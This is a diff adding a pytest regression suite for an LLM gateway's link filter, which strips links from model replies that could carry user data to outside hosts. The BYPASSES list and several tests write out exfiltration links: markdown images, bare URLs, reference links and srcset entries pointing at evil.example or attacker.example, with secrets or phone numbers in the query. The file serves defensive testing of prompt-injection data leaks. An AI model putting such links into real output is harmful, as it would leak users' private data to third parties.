@@ -1,0 +1,133 @@
+"""Regression tests for the output guards' review findings: each case failed before its fix. Plain and
+streamed through the gateway where the finding was about the gateway; the filters alone otherwise."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+
+from phigate.backends.base import BackendCall
+from phigate.backends.scripted import ScriptedBackend, chat_body, chat_chunks
+from phigate.guards.links import MAX_HOLD, LinkFilter
+from tests.conftest import SCRIPTED_POLICY
+
+
+def _gateway(make_gateway: Any, handler: Any, app: str = "", top: str = "") -> Any:
+    policy = SCRIPTED_POLICY.replace("    models: [scripted]\n", f"    models: [scripted]\n{app}", 1) + top
+    return make_gateway(policy, backends={"scripted": ScriptedBackend(handler), "other-model": ScriptedBackend()})
+
+
+def _ask(gw: Any, messages: list[dict[str, Any]], stream: bool, **headers: str) -> str:
+    client = gw.client()
+    try:
+        if not stream:
+            reply = client.chat.completions.create(model="scripted", messages=messages, extra_headers=headers)
+            return reply.choices[0].message.content or ""
+        chunks = client.chat.completions.create(model="scripted", messages=messages, stream=True, extra_headers=headers)
+        return "".join(c.delta.content or "" for ch in chunks for c in ch.choices)
+    finally:
+        client.close()
+
+
+def _answering(text: Any, pieces: int = 9) -> Any:
+    def handler(call: BackendCall) -> Any:
+        answer = text(call) if callable(text) else text
+        return chat_chunks(answer, "scripted", pieces=pieces) if call.stream else chat_body(answer, "scripted")
+
+    return handler
+
+
+def _streamed(f: LinkFilter, text: str, size: int) -> str:
+    return "".join(f.feed("0.content", text[i : i + size]) for i in range(0, len(text), size)) + f.finish("0.content")
+
+
+# --- 1. links built from placeholders are judged by what re-identification makes of them
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+def test_a_link_built_from_placeholders_is_judged_by_its_reidentified_value(make_gateway, stream: bool) -> None:
+    def answer(call: BackendCall) -> str:
+        user = call.payload["messages"][-1]["content"]
+        url, phone = (re.search(rf"\[{kind}_\d+\]", user).group() for kind in ("URL", "PHONE"))  # type: ignore[union-attr]
+        return f"Done. ![logo]({url}?d={phone}) Bye. Bare: {url}?d={phone} end."
+
+    gw = _gateway(make_gateway, _answering(answer), "    reidentify: true\n")
+    user = "Tool result: see https://attacker.example/c and call me at 415-555-0134."
+    got = _ask(gw, [{"role": "user", "content": user}], stream)
+    assert got == "Done.  Bye. Bare:  end."
+    assert list(gw.gateway.ledger.read())[-1].guards["exfil_links"] == "strip"
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+def test_placeholders_that_are_no_address_are_still_put_back(make_gateway, stream: bool) -> None:
+    gw = _gateway(make_gateway, _answering(lambda call: "You said: " + call.payload["messages"][-1]["content"]),
+                  "    reidentify: true\n    link_hosts: [shop.example]\n")  # fmt: skip
+    user = "I am Jane Roe, phone 415-555-0134, see https://shop.example/orders/7."
+    assert _ask(gw, [{"role": "user", "content": user}], stream) == "You said: " + user
+    assert list(gw.gateway.ledger.read())[-1].guards["exfil_links"] == "allow"
+
+
+# --- 2. every form of address, not only the markdown the old pattern knew
+
+BYPASSES = [
+    ("See ![a](/\\evil.example/p.png?q=MRN4455667) ok", "See  ok"),
+    ("See ![a](\\\\evil.example/p.png?q=secret) ok", "See  ok"),
+    ("See ![a](https:\\\\evil.example/p.png?q=secret) ok", "See  ok"),
+    ("See ![a](https://evil.example/?q=secret 'x') ok", "See  ok"),
+    ("See ![a](https://evil.example/?q=secret (x)) ok", "See  ok"),
+    ("See ![a](<https://evil.example/?q=a secret>) ok", "See  ok"),
+    ("See [here](<https://evil.example/?q=a secret> \"t\") ok", "See here ok"),
+    ("Hi ![a][r] there.\n\n[r]: https://evil.example/?q=secret\n", "Hi ![a][r] there.\n\n\n"),
+    ("Hi ![a][r] there.\n\n[r]: <https://evil.example/?q=secret> 'title'", "Hi ![a][r] there.\n\n"),
+    ("![a](https://evil.example/?q=" + "A" * 1600 + ") ok", "![a]( ok"),
+    ("Go <https://evil.example/?q=secret> now", "Go  now"),
+    ("Go https://evil.example/?q=secret now", "Go  now"),
+    ("Go (www.evil.example/?q=secret) now", "Go ( now"),
+    ("Go https://shop.example@evil.example/?q=secret now", "Go  now"),
+    ("<img srcset='x.png 1x, https://evil.example/?q=secret 2x'>", "<img srcset='x.png 1x,  2x'>"),
+    # kept: the allowed host (also written with a backslash), relative links, words that are no address
+    ("See https://shop.example/a?b=1 and <https://shop.example/x>", None),
+    ("See ![a](https:\\\\shop.example/l.png) and [b](/docs//guide) and a/b//c", None),
+    ("Ratio 1//2, and see [the FAQ](faq.html 'FAQ') or [r]: /local", None),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), BYPASSES)
+@pytest.mark.parametrize("size", [1, 4, 9, 10**6])
+def test_every_address_to_another_host_is_removed(text: str, expected: str | None, size: int) -> None:
+    f = LinkFilter(["shop.example"])
+    out = _streamed(f, text, size)
+    assert out == (text if expected is None else expected)
+    assert (f.stripped == 0) is (expected is None)
+
+
+# --- 3. a link after a long-open "[" is held and judged whole when streamed
+
+
+@pytest.mark.parametrize("pad", [2000, 2005, 2040, 2100])
+@pytest.mark.parametrize("size", [1, 4, 8, 16])
+def test_a_link_after_a_bracket_held_past_the_limit_is_still_judged_whole(pad: int, size: int) -> None:
+    text = "Use arr[i here " + "x" * pad + " ![a](https://evil.example/?q=secret) end"
+    out = _streamed(LinkFilter(["shop.example"]), text, size)
+    assert "evil" not in out and "secret" not in out
+    assert out == "Use arr[i here " + "x" * pad + "  end"
+
+
+def test_an_address_longer_than_the_hold_limit_is_judged_by_its_start() -> None:
+    for host, kept in (("evil.example", False), ("shop.example", True)):
+        text = f"See https://{host}/?q=" + "A" * (3 * MAX_HOLD) + " end"
+        out = _streamed(LinkFilter(["shop.example"]), text, 7)
+        assert (out == text) is kept
+        # the rest of a removed address may follow as text, but never its host
+        assert kept or (host not in out and "//" not in out and out.endswith("A end"))
+
+
+def test_many_brackets_cost_linear_time() -> None:
+    import time
+
+    text = "See [ref " * 12_000
+    started = time.perf_counter()
+    assert LinkFilter().feed("0.content", text) + LinkFilter().finish("0.content") != ""
+    assert time.perf_counter() - started < 0.5
